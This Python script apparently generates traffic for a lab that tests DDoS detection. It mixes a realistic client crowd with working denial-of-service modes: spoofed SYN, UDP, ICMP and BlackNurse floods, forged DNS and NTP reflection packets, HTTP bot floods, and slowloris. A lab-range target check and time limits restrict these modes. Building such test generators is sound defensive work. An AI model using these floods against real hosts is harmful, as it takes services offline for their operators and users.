#!/usr/bin/python3
"""labgen.py -- traffic generators of the Sentinel traffic lab (standard library only).

Run inside the lab namespaces made by labnet.sh (never on the host network):

  dns-server   a tiny authoritative DNS server (answers every A query)
  clients      legitimate background: a crowd of many client addresses (HTTP and
               TLS, keep-alive and short connections, Poisson arrivals, Zipf-like
               popularity), heavy single clients (NAT, CDN, health checker, API),
               background DNS and ICMP echo; rate and client pool follow a
               schedule (flash crowds, daily-like ramps).  Seeded.
  flood        spoofed SYN / UDP / ICMP / DNS-reflection packets from many source
               addresses in a CIDR, rate-limited, bounded by --count and --duration
  http-bots    HTTP flood from many bot addresses (keep-alive or new connections)
  slowloris    slowloris from one or many addresses

Every mode refuses targets outside 10.0.0.0/24 (the lab's site) and stops by
itself (--duration; floods also --count).  The scripts also wrap it in `timeout`.
"""
import argparse
import asyncio
import ipaddress
import json
import os
import random
import socket
import ssl
import struct
import sys
import time

LAB_SITE = ipaddress.ip_network("10.0.0.0/24")


def check_target(ip):
    if ipaddress.ip_address(ip) not in LAB_SITE:
        sys.exit(f"refusing target {ip}: only the lab site 10.0.0.0/24 inside the namespaces")


def net_addrs(cidr, n, rng):
    """n distinct host addresses of cidr (last byte never 0 or 255), spread at random."""
    net = ipaddress.ip_network(cidr)
    base, size = int(net.network_address), net.num_addresses
    n = min(n, size * 254 // 256 - 2)
    seen = []
    got = set()
    while len(seen) < n:
        a = base + rng.randrange(size)
        if a & 0xFF in (0, 255) or a in got:
            continue
        got.add(a)
        seen.append(a)
    return [str(ipaddress.ip_address(a)) for a in seen]


def crowd_addr(i):
    """client index -> 10.20.x.y (1..254 in the last byte)"""
    return f"10.20.{(i // 254) & 0xFF}.{i % 254 + 1}"


# ------------------------------------------------------------------ DNS
def dns_query(qid, name):
    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + q + struct.pack("!HH", 1, 1)


def run_dns_server(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((a.bind, 53))
    s.settimeout(0.5)
    end = time.monotonic() + a.duration
    rng = random.Random(1)
    while time.monotonic() < end:
        try:
            data, peer = s.recvfrom(2048)
        except socket.timeout:
            continue
        if len(data) < 12:
            continue
        qid = struct.unpack("!H", data[:2])[0]
        qend = data.find(b"\0", 12) + 5
        question = data[12:qend]
        n = 1 + rng.randrange(4)
        ans = b"".join(b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + bytes([10, 9, rng.randrange(256), rng.randrange(1, 255)])
                       for _ in range(n))
        resp = struct.pack("!HHHHHH", qid, 0x8180, 1, n, 0, 0) + question + ans
        s.sendto(resp, peer)


# ------------------------------------------------------------------ clients
PAGES = ["/", "/index.html", "/about.html", "/contact.html", "/products.html", "/cart.html", "/blog.html", "/faq.html"]
ASSETS = ["/static/app.css", "/static/app.js"] + [f"/img/p{i}.jpg" for i in range(1, 41)]
AGENTS = ["Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
          "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
          "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 Version/17.1 Safari/605.1.15"]


class Stats:
    def __init__(self):
        self.req = 0
        self.err = 0
        self.conns = 0
        self.tls_conns = 0
        self.dropped = 0
        self.dns = 0
        self.icmp = 0
        self.per_sec = {}
        self.addrs = set()

    def tick(self):
        s = int(time.time())
        self.per_sec[s] = self.per_sec.get(s, 0) + 1


async def http_conn(server, port, tls, src):
    ctx = None
    if tls:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    return await asyncio.wait_for(asyncio.open_connection(server, port, ssl=ctx, local_addr=(src, 0),
                                                          server_hostname="shop.lab" if tls else None), 5)


async def http_get(reader, writer, path, ua, close, extra=b""):
    writer.write(f"GET {path} HTTP/1.1\r\nHost: shop.lab\r\nUser-Agent: {ua}\r\nAccept: */*\r\n"
                 f"{'Connection: close' if close else 'Connection: keep-alive'}\r\n".encode() + extra + b"\r\n")
    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
    n = 0
    for line in head.split(b"\r\n"):
        if line[:15].lower() == b"content-length:":
            n = int(line[15:])
    if n:
        await asyncio.wait_for(reader.readexactly(n), 10)


class Crowd:
    def __init__(self, a, st):
        self.a = a
        self.st = st
        self.rng = random.Random(a.seed)
        self.inflight = 0
        self.end = float("inf")     # no new request after the schedule's end

    async def session(self, src, tls, nreq, close_each, think, paths=None, ua=None):
        st = self.st
        self.inflight += 1
        w = None
        try:
            ua = ua or self.rng.choice(AGENTS)
            port = 443 if tls else 80
            r = w = None
            for k in range(nreq):
                if time.monotonic() > self.end:
                    break
                if w is None:
                    r, w = await http_conn(self.a.server, port, tls, src)
                    st.conns += 1
                    st.tls_conns += tls
                    st.addrs.add(src)
                if paths:
                    path = paths[k % len(paths)]
                elif k == 0:
                    path = self.rng.choice(PAGES)
                else:
                    path = self.rng.choice(ASSETS) if self.rng.random() < 0.7 else self.rng.choice(PAGES)
                last = k == nreq - 1
                await http_get(r, w, path, ua, close_each or last)
                st.req += 1
                st.tick()
                if close_each or last:
                    w.close()
                    w = None
                if not last:
                    await asyncio.sleep(think())
        except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError, ssl.SSLError, ValueError):
            st.err += 1
        finally:
            if w is not None:
                w.close()
            self.inflight -= 1

    def crowd_session(self, pool):
        rng, a = self.rng, self.a
        i = int(pool * rng.random() ** 1.6)             # Zipf-like: low indexes are regulars
        src = crowd_addr(i)
        tls = rng.random() < a.tls_share
        if rng.random() < a.keepalive_share:            # a browser visit: page + assets + more pages
            nreq = 1 + min(int(rng.expovariate(1 / (a.ka_mean - 1))), 60)
            think = lambda: rng.expovariate(1 / 0.05) if rng.random() < 0.7 else rng.expovariate(1 / 1.5)
            return self.session(src, tls, nreq, False, think)
        return self.session(src, tls, 1, True, None)     # a short connection (API call, bot, widget)

    async def heavy(self, spec, end):
        """kind:addr:rate[:conns] -- one address making `rate` requests/s."""
        parts = spec.split(":")
        kind, src, rate = parts[0], parts[1], float(parts[2])
        conns = int(parts[3]) if len(parts) > 3 else 8
        rng = random.Random(f"{self.a.seed}-{spec}")
        tasks = []
        if kind in ("cdn", "api"):                      # persistent pools, Poisson per connection
            paths = ASSETS if kind == "cdn" else [f"/api/v1/items?id={j}" for j in range(1, 200)]
            async def pool_conn(ci):
                tls = kind == "api" or ci % 2 == 0
                while time.monotonic() < end:
                    n = 200 + rng.randrange(400)
                    rng.shuffle(paths)
                    await self.session(src, tls, n, False, lambda: rng.expovariate(rate / conns), list(paths),
                                       ua="CDN-Edge/2.1" if kind == "cdn" else "api-client/3.4 (python)")
            tasks = [asyncio.ensure_future(pool_conn(c)) for c in range(conns)]
            while time.monotonic() < end:
                await asyncio.sleep(0.5)
            for t in tasks:
                t.cancel()
            return
        # nat (many users behind one address) and health (new connection each time)
        while time.monotonic() < end:
            await asyncio.sleep(rng.expovariate(rate if kind == "health" else rate / self.a.ka_mean))
            if kind == "health":
                asyncio.ensure_future(self.session(src, rng.random() < 0.5, 1, True, None, ["/healthz"],
                                                   ua="ELB-HealthChecker/2.0"))
            else:
                nreq = 1 + min(int(rng.expovariate(1 / (self.a.ka_mean - 1))), 60)
                asyncio.ensure_future(self.session(src, rng.random() < self.a.tls_share, nreq, False,
                                                   lambda: rng.expovariate(1 / 0.3)))

    async def dns_loop(self, end):
        rng = random.Random(f"{self.a.seed}-dns")
        loop = asyncio.get_running_loop()
        names = ["shop.lab", "cdn.shop.lab", "api.shop.lab", "www.example.lab", "mail.lab", "img.shop.lab"]
        while time.monotonic() < end:
            await asyncio.sleep(rng.expovariate(self.a.dns_rate))
            src = crowd_addr(int(2000 * rng.random() ** 2))
            try:
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                s.setblocking(False)
                s.bind((src, 0))
                s.sendto(dns_query(rng.randrange(65536), rng.choice(names)), (self.a.dns, 53))
                self.st.dns += 1
                loop.call_later(1.0, s.close)
            except OSError:
                self.st.err += 1

    async def icmp_loop(self, end):
        rng = random.Random(f"{self.a.seed}-icmp")
        loop = asyncio.get_running_loop()
        seq = 0
        while time.monotonic() < end:
            await asyncio.sleep(rng.expovariate(self.a.icmp_rate))
            src = crowd_addr(int(2000 * rng.random() ** 2))
            seq += 1
            pkt = icmp_echo(rng.randrange(65536), seq, b"lab-ping" * 7)
            try:
                s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
                s.setblocking(False)
                s.bind((src, 0))
                s.sendto(pkt, (self.a.server, 0))
                self.st.icmp += 1
                loop.call_later(1.0, s.close)
            except OSError:
                self.st.err += 1

    async def run(self):
        a, rng = self.a, self.rng
        phases = parse_phases(a.phases)
        t0 = time.monotonic()
        total = sum(p[0] for p in phases)
        end = t0 + total
        self.end = end
        side = [asyncio.ensure_future(self.heavy(h, end)) for h in a.heavy]
        if a.dns_rate > 0:
            side.append(asyncio.ensure_future(self.dns_loop(end)))
        if a.icmp_rate > 0:
            side.append(asyncio.ensure_future(self.icmp_loop(end)))
        mean_req = a.keepalive_share * a.ka_mean + (1 - a.keepalive_share)
        nxt = t0
        while True:
            now = time.monotonic()
            if now >= end:
                break
            rate, pool = rate_at(phases, now - t0)
            srate = max(rate / mean_req, 1e-3)
            while nxt <= now:
                if self.inflight < a.max_inflight:
                    asyncio.ensure_future(self.crowd_session(pool))
                else:
                    self.st.dropped += 1
                nxt += rng.expovariate(srate)
            await asyncio.sleep(min(max(nxt - now, 0.001), 0.02))
        await asyncio.sleep(2)
        for t in side:
            t.cancel()


def icmp_echo(ident, seq, payload):
    h = struct.pack("!BBHHH", 8, 0, 0, ident, seq) + payload
    return struct.pack("!BBHHH", 8, 0, inet_csum(h), ident, seq) + payload


def inet_csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def parse_phases(text):
    """'DUR:RATE[:POOL],DUR:R1-R2[:P1-P2],...' -> [(dur, r1, r2, p1, p2)]"""
    out = []
    for part in text.split(","):
        f = part.split(":")
        dur = float(f[0])
        r = f[1].split("-")
        r1, r2 = float(r[0]), float(r[-1])
        if len(f) > 2:
            p = f[2].split("-")
            p1, p2 = int(p[0]), int(p[-1])
        else:
            p1 = p2 = 1000
        out.append((dur, r1, r2, p1, p2))
    return out


def rate_at(phases, t):
    for dur, r1, r2, p1, p2 in phases:
        if t < dur:
            x = t / dur
            return r1 + (r2 - r1) * x, max(1, int(p1 + (p2 - p1) * x))
        t -= dur
    d, r1, r2, p1, p2 = phases[-1]
    return r2, p2


def run_clients(a):
    check_target(a.server)
    st = Stats()
    crowd = Crowd(a, st)
    t0 = time.time()
    asyncio.run(crowd.run())
    dur = time.time() - t0
    secs = sorted(st.per_sec.items())
    peak = max((v for _, v in secs), default=0)
    json.dump({"requests": st.req, "errors": st.err, "connections": st.conns, "tls_connections": st.tls_conns,
               "dropped_arrivals": st.dropped, "dns_queries": st.dns, "icmp_echos": st.icmp,
               "distinct_client_addresses": len(st.addrs), "seconds": round(dur, 1),
               "mean_req_per_s": round(st.req / max(dur, 1e-9), 1), "peak_req_per_s": peak,
               "req_per_s_by_second": [v for _, v in secs]}, sys.stdout)
    print()


# ------------------------------------------------------------------ spoofed floods
def ip_header(src, dst, proto, payload_len, ident):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + payload_len, ident, 0, 64, proto, 0,
                    socket.inet_aton(src), socket.inet_aton(dst))
    return h[:10] + struct.pack("!H", inet_csum(h)) + h[12:]


def l4_csum(src, dst, proto, seg):
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, proto, len(seg))
    return inet_csum(pseudo + seg)


def make_flood_packet(kind, src, dst, rng, a):
    if kind == "syn":
        sport = rng.randrange(1024, 65535)
        tcp = struct.pack("!HHIIBBHHH", sport, a.dport, rng.getrandbits(32), 0, 0x60, 0x02, 64240, 0, 0) + \
            struct.pack("!BBH", 2, 4, 1460)
        c = l4_csum(src, dst, 6, tcp)
        tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
        return ip_header(src, dst, 6, len(tcp), rng.getrandbits(16)) + tcp
    if kind in ("udp", "dns-reflect", "ntp-reflect"):
        if kind == "udp":
            sport, dport = rng.randrange(1024, 65535), (a.dport if a.dport else rng.randrange(1, 65535))
            data = os.urandom(a.size)
        elif kind == "dns-reflect":     # large DNS answers (ANY/TXT) from open resolvers
            sport, dport = 53, rng.randrange(1024, 65535)
            data = struct.pack("!HHHHHH", rng.getrandbits(16), 0x8180, 1, 12, 0, 0) + dns_query(0, "lab-amp.example")[12:] + \
                os.urandom(a.size)
        else:                           # NTP monlist responses
            sport, dport = 123, rng.randrange(1024, 65535)
            data = bytes([0xd7, 0, 3, 0x2a]) + os.urandom(a.size)
        udp = struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data
        c = l4_csum(src, dst, 17, udp) or 0xFFFF
        udp = udp[:6] + struct.pack("!H", c) + udp[8:]
        return ip_header(src, dst, 17, len(udp), rng.getrandbits(16)) + udp
    if kind == "icmp":
        ic = icmp_echo(rng.getrandbits(16), rng.getrandbits(16), os.urandom(a.size))
        return ip_header(src, dst, 1, len(ic), rng.getrandbits(16)) + ic
    if kind == "blacknurse":           # ICMP 3/3 with an embedded (made-up) UDP header
        inner = ip_header(dst, src, 17, 8, rng.getrandbits(16)) + struct.pack("!HHHH", 53, rng.randrange(1024, 65535), 8, 0)
        h = struct.pack("!BBHI", 3, 3, 0, 0) + inner
        h = h[:2] + struct.pack("!H", inet_csum(h)) + h[4:]
        return ip_header(src, dst, 1, len(h), rng.getrandbits(16)) + h
    raise SystemExit(f"unknown flood kind {kind}")


def run_flood(a):
    check_target(a.target)
    rng = random.Random(a.seed)
    srcs = net_addrs(a.sources, a.nsources, rng)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    # pre-build a pool of packets (random ports/ids per packet), send round-robin
    pool = [make_flood_packet(a.kind, srcs[i % len(srcs)], a.target, rng, a) for i in range(min(a.count, max(4096, len(srcs))))]
    t0 = time.monotonic()
    end = t0 + a.duration
    sent = 0
    while sent < a.count:
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - t0) * a.rate) + 1 if a.rate > 0 else a.count
        n = min(due - sent, a.count - sent, 4096)
        if n <= 0:
            time.sleep(0.0005)
            continue
        for _ in range(n):
            try:
                s.sendto(pool[sent % len(pool)], (a.target, 0))
            except OSError:
                pass
            sent += 1
    dur = time.monotonic() - t0
    print(json.dumps({"kind": a.kind, "sent": sent, "seconds": round(dur, 2), "pps": round(sent / max(dur, 1e-9)),
                      "sources": len(srcs)}))


# ------------------------------------------------------------------ HTTP bots
async def bots_main(a):
    check_target(a.target)
    rng = random.Random(a.seed)
    srcs = net_addrs(a.sources, a.nsources, rng)
    st = {"req": 0, "err": 0}
    end = time.monotonic() + a.duration
    paths = ["/", "/index.html", "/search?q=", "/products.html", "/cart.html", "/api/v1/items?id=", "/login"]
    per_bot = a.rate / len(srcs)

    async def bot(src):
        r = w = None
        brng = random.Random(f"{a.seed}-{src}")
        await asyncio.sleep(brng.random() * min(2.0, 1 / max(per_bot, 0.01)))
        while time.monotonic() < end and st["req"] < a.count:
            try:
                if w is None:
                    r, w = await http_conn(a.target, a.port, a.port == 443, src)
                p = brng.choice(paths)
                if p.endswith("=") or p == "/login":
                    p += str(brng.randrange(10 ** 7))
                await http_get(r, w, p, brng.choice(AGENTS), a.newconn)
                st["req"] += 1
                if a.newconn:
                    w.close()
                    w = None
            except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError, ssl.SSLError, ValueError):
                st["err"] += 1
                if w is not None:
                    w.close()
                w = None
                await asyncio.sleep(0.2)
            await asyncio.sleep(brng.expovariate(per_bot) if per_bot > 0 else 0)
        if w is not None:
            w.close()
    t0 = time.monotonic()
    await asyncio.gather(*(bot(s) for s in srcs))
    dur = time.monotonic() - t0
    print(json.dumps({"requests": st["req"], "errors": st["err"], "bots": len(srcs), "seconds": round(dur, 1),
                      "req_per_s": round(st["req"] / max(dur, 1e-9), 1)}))


# ------------------------------------------------------------------ slowloris
async def slowloris_main(a):
    check_target(a.target)
    rng = random.Random(a.seed)
    srcs = net_addrs(a.sources, a.nsources, rng)
    end = time.monotonic() + a.duration
    st = {"opened": 0, "lines": 0, "err": 0}

    async def one(i):
        src = srcs[i % len(srcs)]
        await asyncio.sleep(rng.random() * a.ramp)
        try:
            r, w = await http_conn(a.target, a.port, False, src)
            st["opened"] += 1
            w.write(f"GET /?{rng.randrange(10**6)} HTTP/1.1\r\nHost: shop.lab\r\nUser-Agent: {rng.choice(AGENTS)}\r\n".encode())
            while time.monotonic() < end:
                await asyncio.sleep(min(a.interval * rng.uniform(0.7, 1.3), max(0.0, end - time.monotonic())))
                if time.monotonic() >= end:
                    break
                w.write(f"X-a{rng.randrange(5000)}: {rng.randrange(5000)}\r\n".encode())
                await w.drain()
                st["lines"] += 1
            w.close()
        except (OSError, asyncio.TimeoutError):
            st["err"] += 1
    await asyncio.gather(*(one(i) for i in range(a.sockets)))
    print(json.dumps(st))


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="mode", required=True)
    d = sub.add_parser("dns-server")
    d.add_argument("--bind", default="10.0.0.53")
    d.add_argument("--duration", type=float, default=600)
    c = sub.add_parser("clients")
    c.add_argument("--server", default="10.0.0.1")
    c.add_argument("--dns", default="10.0.0.53")
    c.add_argument("--seed", type=int, default=13)
    c.add_argument("--phases", required=True, help="DUR:RATE[:POOL],DUR:R1-R2[:P1-P2] (requests/s of the crowd, client addresses)")
    c.add_argument("--tls-share", type=float, default=0.4)
    c.add_argument("--keepalive-share", type=float, default=0.6, help="share of sessions that are keep-alive visits")
    c.add_argument("--ka-mean", type=float, default=6.0, help="mean requests per keep-alive visit")
    c.add_argument("--heavy", action="append", default=[], help="kind:addr:rate[:conns], kind = nat|cdn|health|api")
    c.add_argument("--dns-rate", type=float, default=3.0)
    c.add_argument("--icmp-rate", type=float, default=0.5)
    c.add_argument("--max-inflight", type=int, default=3000)
    f = sub.add_parser("flood")
    f.add_argument("--kind", required=True, choices=["syn", "udp", "icmp", "dns-reflect", "ntp-reflect", "blacknurse"])
    f.add_argument("--target", default="10.0.0.1")
    f.add_argument("--dport", type=int, default=80)
    f.add_argument("--size", type=int, default=32)
    f.add_argument("--sources", default="172.16.0.0/12")
    f.add_argument("--nsources", type=int, default=1000)
    f.add_argument("--rate", type=float, default=1000, help="packets/s (0 = as fast as possible)")
    f.add_argument("--count", type=int, required=True)
    f.add_argument("--duration", type=float, required=True)
    f.add_argument("--seed", type=int, default=13)
    b = sub.add_parser("http-bots")
    b.add_argument("--target", default="10.0.0.1")
    b.add_argument("--port", type=int, default=80)
    b.add_argument("--sources", default="10.67.0.0/16")
    b.add_argument("--nsources", type=int, default=200)
    b.add_argument("--rate", type=float, default=500, help="requests/s in total")
    b.add_argument("--newconn", action="store_true", help="a new connection per request")
    b.add_argument("--count", type=int, default=10 ** 6)
    b.add_argument("--duration", type=float, required=True)
    b.add_argument("--seed", type=int, default=13)
    s = sub.add_parser("slowloris")
    s.add_argument("--target", default="10.0.0.1")
    s.add_argument("--port", type=int, default=80)
    s.add_argument("--sources", default="10.66.0.0/24")
    s.add_argument("--nsources", type=int, default=1)
    s.add_argument("--sockets", type=int, default=50)
    s.add_argument("--interval", type=float, default=8)
    s.add_argument("--ramp", type=float, default=2)
    s.add_argument("--duration", type=float, required=True)
    s.add_argument("--seed", type=int, default=13)
    a = p.parse_args()
    if a.mode == "dns-server":
        run_dns_server(a)
    elif a.mode == "clients":
        run_clients(a)
    elif a.mode == "flood":
        run_flood(a)
    elif a.mode == "http-bots":
        asyncio.run(bots_main(a))
    elif a.mode == "slowloris":
        asyncio.run(slowloris_main(a))


if __name__ == "__main__":
    main()
